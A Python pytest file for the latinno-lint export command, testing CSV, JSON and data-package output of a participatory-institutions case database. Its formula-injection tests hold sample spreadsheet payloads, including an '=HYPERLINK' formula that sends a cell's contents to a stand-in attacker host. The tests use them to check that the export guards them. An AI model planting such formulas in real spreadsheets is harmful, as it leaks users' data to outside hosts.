"""latinno-lint export: CSV columns from the schema, values that survive csv,
pandas and frictionless, JSON as validated, and which cases are left out."""

import csv
import io
import json
import random
from pathlib import Path

import pytest

from latinno_lint import lint_paths, vocabulary
from latinno_lint.cli import main
from latinno_lint.data import export, writer
from latinno_lint.data.codebook import walk
from latinno_lint.schema import schema

from conftest import ROOT, untranslated_schema
from versions import written_against

# Text that breaks naive CSV: newlines, quotes, separators, non-ASCII, pandas' NA spellings.
TEXTS = [
    'A council of neighbours.\nIt meets monthly, in the town hall; "open" to all.',
    "Orçamento participativo de São Paulo — ñandú, Perú, «citas».",
    "NA",
    "First line\r\nsecond line after CRLF, and a lone\rcarriage return.",
    "  Leading and trailing spaces  ",
    "Commas, commas; semicolons; and a tab\there.",
    # what a spreadsheet runs as a formula, from a stranger's pull request, and the apostrophe that guards it
    '=HYPERLINK("http://evil.example/?q="&A1, "Read more")',
    "- a description that starts with a dash",
    "'Quoted' at the start, as the guard's own mark.",
]


def country_codes() -> list:
    """The values of the country field (the 18 countries and transnational), from the schema."""
    return [c.value for c in next(f for f in walk() if f.pointer == "/country").codes]


def generate(n: int, seed: int = 6) -> list:
    """``n`` schema-valid cases with every kind of field, deterministic for a seed."""
    rng = random.Random(seed)
    countries = [c.value for c in vocabulary.countries().codes]
    transnational = next(c for c in country_codes() if c not in countries)
    relations = vocabulary.dimension("relation").values
    cases = []
    for i in range(n):
        case = {"id": f"case-{i:04d}", "latinno_id": 1000 + i, "name": rng.choice(["NA", f"Council {i}", "Consejo de Ñuñoa"]), "country": rng.choice(countries + [transnational])}
        if rng.random() < 0.3:
            case["name_original"] = f"Conselho número {i}"
        if case["country"] == transnational:
            case["countries"] = rng.sample(countries, rng.randint(2, 4))
        case["description"] = TEXTS[i % len(TEXTS)]
        if rng.random() < 0.8:
            case["start_year"] = rng.randint(1950, 2020)
            if rng.random() < 0.4:
                case["end_year"] = case["start_year"] + rng.randint(0, 5)
        for dim in vocabulary.coding_dimensions():
            if rng.random() < 0.25:
                continue  # not coded: must be empty in the CSV, never 0
            value = sorted(rng.sample(dim.values, rng.randint(1, len(dim.values))), key=dim.values.index) if dim.multiple else rng.choice(dim.values)
            keys = dim.pointer.split("/")[1:]
            case.setdefault(keys[0], {}) if len(keys) > 1 else None
            (case[keys[0]] if len(keys) > 1 else case)[keys[-1]] = value
        if rng.random() < 0.6:
            case["sources"] = [
                {"url": f"https://example.org/{i}/{k}?a=1;b=2", **({"title": f"Report {k}, part {i}"} if k else {}), "accessed": "2024-05-0" + str(k + 1)} for k in range(rng.randint(1, 3))
            ]
        if i and rng.random() < 0.4:
            case["related"] = [{"id": f"case-{i - 1:04d}", "relation": rng.choice(relations)}]
        if rng.random() < 0.3:
            case["notes"] = "Coded from the report.\nSecond paragraph."
        cases.append(case)
    return cases


def write_cases(folder: Path, cases: list) -> Path:
    """Write cases as case files in a cases/ tree under ``folder``; return the tree."""
    root = folder / "cases"
    for case in cases:
        path = root / vocabulary.country_slug(case["country"]) / f"{case['id']}.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(writer.dump(case), encoding="utf-8")
    return root


def run(args, capsys):
    code = main(args)
    out, err = capsys.readouterr()
    return code, out, err


def rows(text: str) -> list:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def at(case: dict, pointer: str):
    value = case
    for key in pointer.split("/")[1:]:
        value = value.get(key) if isinstance(value, dict) else None
    return value


# Columns ---------------------------------------------------------------------


def test_columns_come_from_the_schema_in_its_order():
    names = [c.name for c in export.columns()]
    assert len(names) == len(set(names)) and names[-1] == "path"
    for dim in vocabulary.coding_dimensions():
        if dim.multiple:  # one indicator per code, in the schema's code order, side by side
            wanted = [f"{dim.name}_{v}" for v in dim.values]
            start = names.index(wanted[0])
            assert names[start : start + len(wanted)] == wanted
        else:
            assert dim.name in names
    # every top-level property of the schema gives at least one column, in schema order
    firsts = [next(i for i, c in enumerate(export.columns()) if c.keys[:1] == (key,)) for key in schema()["properties"]]
    assert firsts == sorted(firsts)
    assert {"means_deliberation", "countries", "sources_url", "related_id", "related_relation"} <= set(names)


# CSV values --------------------------------------------------------------------


def expected_cell(column, case: dict) -> str:
    """What a cell must hold, worked out from the case without the export's code."""
    if column.kind == "path":
        return "p"
    if column.kind == "indicator":
        held = at(case, "/" + "/".join(column.keys))
        return "" if held is None else ("1" if column.code.value in held else "0")
    value = at(case, "/" + "/".join(column.keys))
    if value is None:
        return ""
    if column.kind == "joined" and column.parent is not None and column.parent.children:
        value = ";".join(str(item.get(column.field.name, "")) for item in value)
    elif isinstance(value, list):
        value = ";".join(value)
    if isinstance(value, bool):
        return "1" if value else "0"
    text = str(value)
    if column.field.type != "integer" and text[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
        return "'" + text  # the guard against formulas, in a text column
    return text


def test_csv_cells_hold_the_case_values_and_survive_the_csv_module():
    cases = generate(80)
    text = export.to_csv([("p", c) for c in cases])
    assert text.startswith(",".join(c.name for c in export.columns()) + "\r\n")
    got = rows(text)
    assert len(got) == len(cases)
    for case, row in zip(cases, got):
        for column in export.columns():
            assert row[column.name] == expected_cell(column, case), (case["id"], column.name)


def test_uncoded_multiple_choice_dimensions_are_empty_never_zero():
    cases = generate(80)
    got = rows(export.to_csv([("p", c) for c in cases]))
    checked = 0
    for dim in [d for d in vocabulary.coding_dimensions() if d.multiple]:
        for case, row in zip(cases, got):
            cells = [row[f"{dim.name}_{v}"] for v in dim.values]
            if at(case, dim.pointer) is None:
                assert cells == [""] * len(cells)
                checked += 1
            else:
                assert set(cells) <= {"0", "1"} and "1" in cells
    assert checked > 10  # the generator leaves dimensions out often enough to test this


def test_labels_in_a_language_fall_back_to_english(packaged_schema):
    packaged_schema(untranslated_schema("frequency", "sporadic", "pt"))
    dim = next(d for d in vocabulary.coding_dimensions() if not d.multiple and any("pt" in c.labels for c in d.codes) and any("pt" not in c.labels for c in d.codes))
    translated = next(c for c in dim.codes if "pt" in c.labels)
    untranslated = next(c for c in dim.codes if "pt" not in c.labels)
    keys = dim.pointer.split("/")[1:]
    cases = []
    for code in (translated, untranslated):
        case = generate(1)[0]
        case.setdefault(keys[0], {}) if len(keys) > 1 else None
        (case[keys[0]] if len(keys) > 1 else case)[keys[-1]] = code.value
        cases.append(("p", case))
    got = rows(export.to_csv(cases, labels=True, lang="pt"))
    assert got[0][dim.name] == translated.labels["pt"] != translated.label
    assert got[1][dim.name] == untranslated.label


def test_csv_round_trips_through_pandas(tmp_path):
    pd = pytest.importorskip("pandas")  # in the test extra; a skip here means the extra is not installed
    cases = generate(60)
    target = tmp_path / "cases.csv"
    target.write_text(export.to_csv([(f"file-{i}.yaml", c) for i, c in enumerate(cases)]), encoding="utf-8", newline="")
    target.with_name("datapackage.json").write_text(json.dumps(export.datapackage("cases.csv")), encoding="utf-8")
    frame = read_like_the_readme(pd, tmp_path)
    assert list(frame["description"]) == [c["description"] for c in cases]
    assert list(frame["name"]) == [c["name"] for c in cases]  # "NA" stays a name
    assert list(frame["start_year"]) == [c.get("start_year", pd.NA) for c in cases]


def read_like_the_readme(pd, folder: Path):
    """The pandas recipe in docs/researchers.md."""
    fields = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"][0]["schema"]["fields"]
    dtypes = {f["name"]: "Int64" if f["type"] in ("integer", "boolean") else "string" for f in fields}
    cases = pd.read_csv(folder / "cases.csv", dtype=dtypes, keep_default_na=False, na_values=[""])
    text = [f["name"] for f in fields if f["type"] == "string"]
    cases[text] = cases[text].apply(lambda column: column.str.removeprefix("'"))
    return cases


def test_pandas_dtypes(tmp_path):
    pd = pytest.importorskip("pandas")
    target = tmp_path / "cases.csv"
    cases = generate(60)
    dims = [d.pointer.rsplit("/", 1)[-1] for d in vocabulary.coding_dimensions()]
    cases[0]["undetermined"] = {name: "the sources do not say" for name in dims}  # every undetermined_ column holds text
    target.write_text(export.to_csv([("p", c) for c in cases]), encoding="utf-8", newline="")
    target.with_name("datapackage.json").write_text(json.dumps(export.datapackage("cases.csv")), encoding="utf-8")
    plain = pd.read_csv(target)  # no options: numbers are numbers, text is text
    typed = read_like_the_readme(pd, tmp_path)
    for column in export.columns():
        field = column.field
        numeric = column.kind == "indicator" or (field is not None and field.type in ("integer", "boolean") and column.kind != "joined")
        assert pd.api.types.is_numeric_dtype(plain[column.name]) == numeric, column.name
        assert str(typed[column.name].dtype) == ("Int64" if numeric else "string"), column.name
    assert set(typed["co_governance"].dropna()) <= {0, 1}


# Formulas ------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example", "x")',
    "name_original": "'Consejo' de Lima",
    "description": "+55 11 5555 5555 is the number of the council; it meets every month in the town hall.",
    "notes": "@SUM(A1:A9)",
}


def formula_case() -> dict:
    case = generate(1)[0]
    case.update(FORMULAS, latinno_id=7, start_year=2001, end_year=2003)
    case.pop("ends", None)  # undetermined, below
    case["undetermined"] = {"ends": "\tthe sources do not say"}
    case["sources"] = [{"url": "https://example.org/a", "title": "-1 point of view"}, {"url": "https://example.org/b", "title": "=1+1"}]
    return case


def test_csv_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe_and_nothing_else_does():
    case = formula_case()
    (row,) = rows(export.to_csv([("=p.yaml", case)]))  # read back by the csv module
    assert {k: row[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert row["undetermined_ends"] == "'\tthe sources do not say"
    assert row["sources_title"] == "'-1 point of view;=1+1"  # one mark, at the start of the cell: the items keep theirs
    assert row["path"] == "'=p.yaml"
    assert (row["latinno_id"], row["start_year"], row["country"]) == ("7", "2001", case["country"])  # numbers and codes as they are
    for column in export.columns():
        assert not row[column.name].startswith(export.FORMULA_STARTS), column.name
        assert column.kind == "path" or row[column.name] == expected_cell(column, case), column.name


@pytest.mark.parametrize("text", ["", "plain", "'", "''", "'=", "=", "+", "-", "@", "\t", "\r", "\r\n=x", " =x", "a=b", "-5"])
def test_the_guard_is_undone_exactly(text):
    shown = export.guarded(text)
    assert export.unguarded(shown) == text
    assert not shown.startswith(export.FORMULA_STARTS)
    assert shown == text or shown == "'" + text


def test_numbers_are_never_guarded_even_negative_ones():
    # no integer column of the schema can be negative, and an out-of-range value is not written; the
    # guard goes by the column, so a number is never touched whatever it holds
    numbers = [c for c in export.columns() if not c.text]
    assert {c.name for c in numbers} >= {"latinno_id", "start_year", "end_year", "means_deliberation"}
    assert all(c.kind == "indicator" or c.field.type == "integer" for c in numbers)
    column = next(c for c in numbers if c.name == "start_year")
    assert export.csv_cell(column, {"start_year": 1999}, "p") == "1999"
    assert [dict(c.field.constraints).get("minimum", -1) >= 0 for c in numbers if c.kind == "value"] == [True, True, True]


def test_the_guarded_csv_reads_back_exactly_in_pandas_and_frictionless(tmp_path, capsys):
    pd = pytest.importorskip("pandas")
    frictionless = pytest.importorskip("frictionless")
    tree = write_cases(tmp_path, [formula_case()])
    out = tmp_path / "out" / "cases.csv"
    out.parent.mkdir()
    code, _, err = run(["export", str(tree), "-o", str(out), "--datapackage"], capsys)
    assert code == 0, err
    frame = read_like_the_readme(pd, out.parent)  # the recipe, with its line that takes the guard off
    assert {k: frame[k][0] for k in FORMULAS} == FORMULAS
    assert frame["sources_title"][0] == "-1 point of view;=1+1" and frame["undetermined_ends"][0] == "\tthe sources do not say"
    assert frame["latinno_id"][0] == 7
    descriptor = json.loads((out.parent / "datapackage.json").read_text(encoding="utf-8"))
    assert "starts with =, +, -, @, a tab, a carriage return or '" in descriptor["resources"][0]["description"]
    assert frictionless.validate(out.parent / "datapackage.json").valid, written_against("frictionless", "5.21.0")


def test_json_lines_are_not_guarded():
    case = formula_case()
    assert json.loads(export.to_jsonl([("p", case)]))["name"] == FORMULAS["name"]


# JSON ----------------------------------------------------------------------------


def test_jsonl_and_json_hold_the_cases_as_validated_with_the_path():
    cases = generate(12)
    pairs = [(f"cases/x/{c['id']}.yaml", c) for c in cases]
    lines = export.to_jsonl(pairs).splitlines()
    assert [json.loads(line) for line in lines] == [{"path": p, **c} for p, c in pairs]
    assert json.loads(export.to_json(pairs)) == [{"path": p, **c} for p, c in pairs]


# The data package ---------------------------------------------------------------


@pytest.mark.parametrize("extra", [[], ["--labels", "--lang", "es"], ["--labels", "--lang", "pt"]])
def test_datapackage_and_csv_validate_with_frictionless(tmp_path, capsys, extra):
    frictionless = pytest.importorskip("frictionless")
    tree = write_cases(tmp_path, generate(40))
    out = tmp_path / "out" / "latinno cases.csv"
    out.parent.mkdir()
    code, _, err = run(["export", str(tree), "-o", str(out), "--datapackage", *extra], capsys)
    assert code in (0, 1), err
    descriptor = json.loads((out.parent / "datapackage.json").read_text(encoding="utf-8"))
    report = frictionless.validate(out.parent / "datapackage.json")  # written against frictionless 5.21.0
    assert report.valid, f"{report.flatten(['rowNumber', 'fieldName', 'message'])[:5]}{written_against('frictionless', '5.21.0')}"
    fields = {f["name"]: f for f in descriptor["resources"][0]["schema"]["fields"]}
    assert [f for f in fields] == [c.name for c in export.columns()]
    freq = vocabulary.dimension("frequency")
    shown = [c.label_in(extra[-1]) for c in freq.codes] if extra else freq.values
    assert fields["frequency"]["constraints"]["enum"] == shown
    assert freq.definition in fields["frequency"]["description"]


def test_frictionless_catches_a_value_outside_the_codes(tmp_path, capsys):
    frictionless = pytest.importorskip("frictionless")
    rows_ = [("p", c) for c in generate(5)]
    rows_[0][1].setdefault("institutional_design", {})["frequency"] = "regular"
    text = export.to_csv(rows_).replace(",regular,", ",regularly,", 1)
    (tmp_path / "cases.csv").write_text(text, encoding="utf-8", newline="")
    (tmp_path / "datapackage.json").write_text(json.dumps(export.datapackage("cases.csv")), encoding="utf-8")
    report = frictionless.validate(tmp_path / "datapackage.json")
    assert not report.valid, written_against("frictionless", "5.21.0")
    assert ["frequency", "constraint-error"] in report.flatten(["fieldName", "type"]), written_against("frictionless", "5.21.0")


# The command --------------------------------------------------------------------


def test_export_of_the_repository_cases(capsys, monkeypatch):
    monkeypatch.chdir(ROOT)
    code, out, err = run(["export"], capsys)
    files = sorted(str(p.relative_to(ROOT)) for p in (ROOT / "cases").rglob("*.yaml"))
    assert code == 0 and f"Exported {len(files)} cases." in err
    assert [r["path"] for r in rows(out)] == files


def test_cases_with_errors_are_left_out_and_named(tmp_path, capsys):
    tree = write_cases(tmp_path, generate(6))
    bad = next(tree.rglob("case-0002.yaml"))
    bad.write_text(bad.read_text(encoding="utf-8").replace("country:", "contry:"), encoding="utf-8")
    broken = tree / "peru" / "broken.yaml"
    broken.parent.mkdir(exist_ok=True)
    broken.write_text("id: [unclosed\n", encoding="utf-8")
    report = lint_paths([str(tree)])
    failing = {f.path for f in report.findings if f.severity == "error"}
    assert {str(bad), str(broken)} <= failing

    code, out, err = run(["export", str(tree), "--format", "jsonl"], capsys)
    assert code == 1
    exported = {json.loads(line)["path"] for line in out.splitlines()}
    assert exported == {r.path for r in report.files} - failing
    assert f"left out {len(failing)} cases with errors" in err
    first = min(f for f in report.findings if f.path == str(bad) and f.severity == "error")
    assert f"  {bad}:{first.line}:{first.column}: {first.code} " in err

    code, out, err = run(["export", str(tree), "--format", "jsonl", "--include-invalid"], capsys)
    assert code == 1
    exported = {json.loads(line)["path"]: json.loads(line) for line in out.splitlines()}
    assert set(exported) == {r.path for r in report.files} - {str(broken)}
    assert exported[str(bad)]["contry"]  # the invalid case as it is
    assert "left out 1 file that could not be read as a case" in err and str(broken) in err


def test_every_case_exported_exits_0_and_says_how_many(tmp_path, capsys):
    cases = generate(30)
    tree = write_cases(tmp_path, cases)
    valid = {r.path for r in lint_paths([str(tree)]).files} - {f.path for f in lint_paths([str(tree)]).findings if f.severity == "error"}
    code, out, err = run(["export", str(tree), "-o", str(tmp_path / "c.csv")], capsys)
    assert out == ""
    assert f"Exported {len(valid)} cases to {tmp_path / 'c.csv'}." in err
    assert code == (0 if len(valid) == len(cases) else 1)
    got = rows((tmp_path / "c.csv").read_text(encoding="utf-8"))
    assert {r["path"] for r in got} == valid


@pytest.mark.parametrize(
    "args, message",
    [
        (["--format", "jsonl", "--labels"], "--labels applies to --format csv and xlsx only, not jsonl"),
        (["--format", "xlsx", "--datapackage", "-o", "x.xlsx"], "--datapackage applies to --format csv only, not xlsx"),
        (["--format", "xlsx"], "--format xlsx needs -o FILE.xlsx"),
        (["--datapackage"], "--datapackage needs -o FILE"),
        (["-o", "x/datapackage.json", "--datapackage"], "would be overwritten by the data package descriptor"),
    ],
)
def test_usage_errors_exit_2_with_one_line(args, message, capsys):
    code, out, err = run(["export", str(ROOT / "cases"), *args], capsys)
    assert code == 2 and message in err and "Traceback" not in err and out == ""


def test_unwritable_output_exits_2_without_traceback(tmp_path, capsys):
    for target in (tmp_path / "missing" / "c.csv", tmp_path):
        code, out, err = run(["export", str(ROOT / "cases"), "-o", str(target)], capsys)
        assert code == 2 and err.startswith(f"latinno-lint: cannot write {target}: ") and "Traceback" not in err
        assert err.count("\n") == 1


def test_no_cases_folder_exits_2(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _, err = run(["export"], capsys)
    assert code == 2 and "no cases/ folder here" in err


def test_a_missing_path_stops_the_export_before_anything_is_written(tmp_path, capsys):
    missing, target = tmp_path / "nowhere.yaml", tmp_path / "out.csv"
    code, out, err = run(["export", str(missing), "-o", str(target)], capsys)
    assert (code, out, err) == (2, "", f"latinno-lint: {missing}: no such file or folder\n")
    assert not target.exists()


def test_an_unreadable_path_is_left_out_with_its_reason(tmp_path, capsys):
    broken = tmp_path / "broken.yaml"
    broken.symlink_to(tmp_path / "nowhere.yaml")
    code, out, err = run(["export", str(broken)], capsys)
    assert code == 1 and f"{broken}:1:1: LAT010" in err and "Exported 0 cases." in err
    assert out.splitlines() == [",".join(c.name for c in export.columns())]


def test_include_invalid_writes_text_as_text_and_leaves_unknown_codes_and_wrong_types_out(tmp_path, capsys):
    case = tmp_path / "cases" / "peru" / "odd.yaml"
    case.parent.mkdir(parents=True)
    case.write_text("id: odd\nname: [a, b]\ncountry: PE\ndescription: x\nstart_year: 1999-01-01\ninstitutional_design:\n  frequency: regularly\nmeans: [deliberation, bribery]\n", encoding="utf-8")
    code, out, err = run(["export", str(case), "--include-invalid"], capsys)
    assert code == 0, err
    (row,) = rows(out)
    # a text column takes any value as text; a code or number column only what its type allows (issue 17)
    assert row["name"] == '["a", "b"]' and row["start_year"] == "" and row["frequency"] == ""
    means = vocabulary.dimension("means")
    assert [row[f"means_{v}"] for v in means.values] == ["1" if v == "deliberation" else "0" for v in means.values]


GENERATOR = ROOT / "benchmarks" / "generate.py"


@pytest.mark.skipif(not GENERATOR.exists(), reason="benchmarks/generate.py (the benchmark corpus) is not on this branch")
def test_export_and_stats_on_the_benchmark_corpus(tmp_path, capsys):
    import subprocess
    import sys

    from latinno_lint.data import stats

    subprocess.run([sys.executable, str(GENERATOR), "200", str(tmp_path / "corpus")], check=True, capture_output=True)
    tree = tmp_path / "corpus" / "cases"
    report = lint_paths([str(tree)])
    failing = {f.path for f in report.findings if f.severity == "error"}
    target = tmp_path / "out" / "cases.csv"
    target.parent.mkdir()
    code, _, err = run(["export", str(tree), "-o", str(target), "--datapackage"], capsys)
    assert code == (1 if failing else 0), err
    assert {r["path"] for r in rows(target.read_text(encoding="utf-8"))} == {r.path for r in report.files} - failing
    frictionless = pytest.importorskip("frictionless")
    assert frictionless.validate(target.parent / "datapackage.json").valid
    s = stats.summary([str(tree)])
    assert s["files"] == len(report.files) == 200
    assert s["cases"] + s["unreadable_files"] == 200
    assert sum(r["count"] for r in s["findings_by_rule"]) == len(report.findings)
